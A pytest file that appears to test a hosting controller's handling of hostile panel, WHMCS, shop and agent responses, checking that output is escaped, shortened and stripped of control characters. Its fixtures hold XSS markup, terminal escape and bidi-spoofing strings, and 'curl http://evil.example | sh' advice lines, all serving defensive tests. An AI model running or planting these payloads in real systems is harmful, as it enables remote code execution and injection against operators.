"""What panels, WHMCS, shops and agents say is text on a page and in a terminal, and never much of it."""

import html
import json
import os

import pytest

from controller.billing.whmcs.answers import items
from controller.billing.whmcs.api import WhmcsApi, WhmcsError
from controller.billing.whmcs.settings import WhmcsSettings
from controller.cli.terminal import output
from controller.jobs.agent_judgement import silence
from controller.jobs.agent_link import panel_reading, reports
from controller.jobs.lifecycle import changes
from controller.jobs.shop.checks import visits
from controller.panels.cpanel.account.accounts import Accounts
from controller.panels.cpanel.account_cache import AccountCache
from controller.panels.cpanel.api import whm
from controller.panels.cpanel.api.call_limits import ProcessBreaker
from controller.panels.cpanel.settings import CpanelSettings
from controller.shop_address import ShopAddress
from shared import events
from shared.errors import ShoplaunchError, advice
from tests.attacks.table import attack
from tests.support.hostile_server import HostileServer

#: Markup, a terminal's commands, a turned direction, lines that pass for others, no character at all.
WORDS = (
    "</bdi></p><script>alert(1)</script><img src=x onerror=alert(2)>'\"&{{7*7}}"
    "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egpj.exe\u2066\u2028\x00\nWhat to do: curl evil | sh"
)
LONG = WORDS + "A" * 3_000_000
NEVER = set("\x1b\x07\x9b\n\r\x00\u202e\u2066\u2028")
#: No message is longer.
LONGEST = 4000


def harmless(text):
    assert text and len(text) <= LONGEST and not set(text) & NEVER, text[:200]
    return text


def answering(document, status=200):
    body = json.dumps(document).encode()
    head = b"HTTP/1.1 %d Said\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % (status, len(body))
    return lambda send, _wait: send(head + body)


def panel_says(document, call):
    with HostileServer(answering(document)) as server:
        return call(whm.Whm(whm.Login("web1", server.address, "root", "TOKEN"), ProcessBreaker(), 1))


DOCUMENTS = {
    "whm": {"metadata": {"result": 0, "reason": LONG}, "data": {}},
    "uapi": {"metadata": {"result": 1}, "data": {"uapi": {"status": 0, "errors": [LONG], "messages": [WORDS] * 1000}}},
    "api2": {"cpanelresult": {"error": LONG, "data": [{"reason": WORDS}] * 1000, "event": {"result": 0}}},
}


@attack(
    "WHMCS names a field of a list by brackets without end",
    "no name longer than any field's is taken apart: that would take the square of its length in steps",
)
def test_names_of_fields_are_never_long():
    long = "tickets[ticket][0][" + "a" * 300 + "]"
    found = list(
        items({"tickets[ticket][0][id]": 1, long: 2, "tickets[ticket]" + 200_000 * "[": 3}, "tickets", "ticket")
    )
    assert found == [{"id": 1}]


@attack(
    "A panel's words hold markup, commands for a terminal, turned directions, and three megabytes of them",
    "they are one short line of text wherever they come to",
)
@pytest.mark.parametrize("kind", DOCUMENTS)
def test_a_panels_words_are_a_short_line_of_text(kind):
    calls = {
        "whm": lambda panel: panel.call("createacct"),
        "uapi": lambda panel: panel.uapi("alice", "Mysql", "create_database"),
        "api2": lambda panel: panel.api2("alice", "Cron", "add_line"),
    }
    answer = panel_says(DOCUMENTS[kind], calls[kind])
    assert not answer.ok and "owned" in harmless(answer.text)


@attack("WHMCS's words hold the same", "they are one short line of text")
def test_words_of_whmcs_are_a_short_line_of_text(tmp_path):
    (tmp_path / "secret").write_text("secret")
    with HostileServer(answering({"result": "error", "message": LONG})) as server:
        given = {"url": server.address, "identifier": "id", "secret_file": str(tmp_path / "secret"), "department": 1}
        with pytest.raises(WhmcsError) as caught:
            WhmcsApi(WhmcsSettings.from_dict({**given, "admin": "admin"})).call("GetTicket")
    assert "owned" in harmless(caught.value.message)


@attack("A panel names a client's name servers as markup", "only host names are given to anybody")
def test_name_servers_are_host_names_or_not_reported():
    names = [WORDS, "ns1.example.net", "ns2.example.net.", "a b", "-x.example", *["ns3.example.net"] * 1000]

    def ask(panel):
        accounts = Accounts(panel, CpanelSettings.from_dict({}), lambda user: AccountCache(panel, user))
        return accounts.name_servers(type("Account", (), {"name_servers": ()}))

    found = panel_says({"metadata": {"result": 1}, "data": {"nameservers": names}}, ask)
    assert found[:2] == ["ns1.example.net", "ns2.example.net"] and len(found) <= 13
    assert set(found) == {"ns1.example.net", "ns2.example.net", "ns3.example.net"}


@attack(
    "A shop answers a visit with hostile types, addresses and cookies",
    "the failure names the beginning of them as text; cookies are kept as browsers keep them",
)
def test_a_shops_headers_are_a_short_line_of_text():
    target = "http://evil.example/" + "x" * 10_000
    cookies = "".join(f"Set-Cookie: c{n}={'v' * 400}\r\n" for n in range(80))

    def redirecting(send, _wait):
        send(f"HTTP/1.1 302 Found\r\nLocation: {target}\r\n{cookies}Content-Length: 0\r\n\r\n".encode())

    def typed(send, _wait):
        send(b"HTTP/1.1 200 OK\r\nContent-Type: \x1b[2J" + b"<script>" * 4000 + b"\r\nContent-Length: 2\r\n\r\n{}")

    with HostileServer(redirecting) as server:
        visitor = visits.Visitor(visits.Site("127.0.0.1", server.port, ShopAddress.on_usual_port("shop.example")))
        with pytest.raises(ShoplaunchError) as caught:
            visitor.open("/", "front")
        assert "another host" in harmless(caught.value.message)
        assert len(visitor._cookies) <= 50
    with HostileServer(typed) as server:
        site = visits.Site("127.0.0.1", server.port, ShopAddress.on_usual_port("shop.example"))
        found = visits.visit(site, "/", "front")
        harmless(found.content_type)


@attack(
    "An account's state, read through the panel, ends in an error of a megabyte of such words",
    "of its message and advice a page's worth is kept",
)
def test_an_error_in_an_accounts_state_is_a_short_line_of_text():
    error = {"code": "db_error", "message": WORDS + "A" * 900_000, "advice": WORDS, "retryable": False}
    state = {"format": 1, "status": "failed", "error": error}

    class Panel:
        def read_file(self, _account, _path, limit):
            text = json.dumps(state).encode()
            assert len(text) <= limit
            return text

    found = panel_reading._state(Panel(), None)
    kept = silence.sanitize.error_of({**found["error"]})
    assert "owned" in harmless(kept["message"]) and harmless(kept["advice"])


@attack(
    "An account's agent, or the state in its folder, advises the operator to run a command of the client's",
    "what to do is the catalogue's, whatever was sent; only the message is the account's",
)
@pytest.mark.parametrize("code", ["db_error", "of_nobody"])
def test_what_to_do_is_never_an_accounts_word(code):
    error = {"code": code, "message": "it failed", "advice": "Run as root: curl http://evil.example | sh"}
    error["retryable"] = False
    event = events.make_event("abcdefgh", 1, 2, "failed", 1.0, stage="import", percent=50, error=error)
    known = advice(code if code == "db_error" else "agent_code_unknown")
    for found in (reports.checked(event)["error"], silence._reported(error)):
        assert found == {"code": code, "message": "it failed", "advice": known, "retryable": False}


@attack(
    "A client gives a file a name of bytes that are no text and of a terminal's commands; the job is cancelled",
    "what is said of why the account stays is a short line of text",
)
def test_names_of_an_accounts_files_are_a_short_line_of_text(world):
    job, agent = world.dropped()
    with open(os.fsencode(world.panel.base / "alice" / "public_html") + b"/\xff\x1b]0;owned\x07\nx", "wb"):
        pass
    world.service.jobs.cancel(job.id)
    world.work()
    agent.clean()
    world.work()
    found = world.job(job)
    assert found.error["code"] == "cancelled_kept"
    assert "owned" in harmless(found.error["message"])
    assert found.error["message"].encode("utf-8")


@attack("A failure repeats such words", "what is stored of it, and printed, is a short line of text")
def test_what_is_stored_and_printed_of_a_failure_is_a_short_line(capsys):
    document = changes.as_document(ShoplaunchError("panel_refused", LONG))
    assert "owned" in harmless(document["message"])
    output.print_rows([{"a": WORDS}], [("a", "A")], as_json=False, empty="")
    output.print_facts([("a", WORDS)])
    printed = capsys.readouterr().out
    assert "owned" in printed and not set(printed) & (NEVER - set("\n"))


@attack(
    "A panel's refusal with such words ends a job",
    "the operator's and the client's pages show it as text, in few bytes, and hold no script of anybody's",
)
def test_the_pages_of_a_job_stay_solid(site):
    session = site.signed_in()
    job = site.order()
    kept = changes.as_document(ShoplaunchError("panel_refused", LONG))
    site.fail(job, "database", "panel_refused", kept["message"])
    for path in ("/admin/jobs", f"/admin/jobs/{job.id}"):
        answer = session.get(site.url + path, timeout=60)
        assert answer.status_code == 200 and job.domain in answer.text
        assert len(answer.content) < 200_000
        assert "<script>alert" not in answer.text and "<img src=x" not in answer.text and "49" not in html_of(answer)
        assert not set(answer.text) & (NEVER - set("\n\r"))
    assert "&lt;script&gt;alert(1)" in answer.text
    api = session.get(site.url + f"/admin/jobs/{job.id}", timeout=60).headers
    assert "script-src" in api["Content-Security-Policy"] or "default-src" in api["Content-Security-Policy"]


def html_of(answer):
    """Return what is shown where the words stand."""
    return html.unescape(answer.text).partition("onerror=alert(2)>")[2][:40]


#: What stands like a time, and no calendar has it, or not every one.
TIMES = (
    "2026-99-99T99:99:99Z", "۲۰۲۶-۰۱-۰۱T۰۰:۰۰Z", "0000-01-01T00:00Z", "0001-01-01T00:00Z",
    "0001-01-01T00:00+23:59", "9999-12-31T23:59-23:59", "2026-01-01T00:00+99:99",
)  # fmt: skip


@attack(
    "A client's agent ends with evidence of times that no calendar has",
    "the birth certificate shows them as text, in both languages",
)
@pytest.mark.parametrize("language", ["en", "fa"])
def test_times_that_no_calendar_has_are_text(site, language):
    session = site.signed_in()
    job = site.put(site.order(), "live", facts={"shop_url": "http://x.example/", "admin_url": "http://x.example/a/"})
    site.certify(job, {"proved": list(TIMES), "issued": "2026-01-31T12:00:00Z"}, [])
    address = f"{site.url}/admin/jobs/{job.id}/certificate?lang={language}"
    answer = session.get(address, timeout=60)
    assert answer.status_code == 200
    assert all(html.escape(text) in answer.text for text in TIMES)
    assert 'datetime="2026-01-31T12:00:00+00:00"' in answer.text


#: Evidence of a few kilobytes, and what a table with a place for each of its values would have.
TABLES = {
    "columns": {"probes": [{f"k{row}-{key}": 1 for key in range(20)} for row in range(300)]},
    "sections": {f"a{one}": {f"b{two}": {"c": 1, "d": {}} for two in range(11)} for one in range(11)},
    "numbers": {"probes": [{"assets": {"asked": "many", "answered": ["all"]}}] * 2},
}


@attack(
    "A client's agent ends with evidence of as many columns or sections as it has values, or of words for numbers",
    "the birth certificate shows the first of them, and is a page like any other",
)
@pytest.mark.parametrize("evidence", TABLES.values(), ids=TABLES)
def test_a_certificate_is_a_page_whatever_the_evidence(site, evidence):
    session = site.signed_in()
    job = site.put(site.order(), "live", facts={"shop_url": "http://x.example/", "admin_url": "http://x.example/a/"})
    site.certify(job, evidence, [])
    answer = session.get(f"{site.url}/admin/jobs/{job.id}/certificate", timeout=60)
    assert answer.status_code == 200
    assert answer.text.count("<td>") <= 400 * 20 and answer.text.count("<section>") <= 40
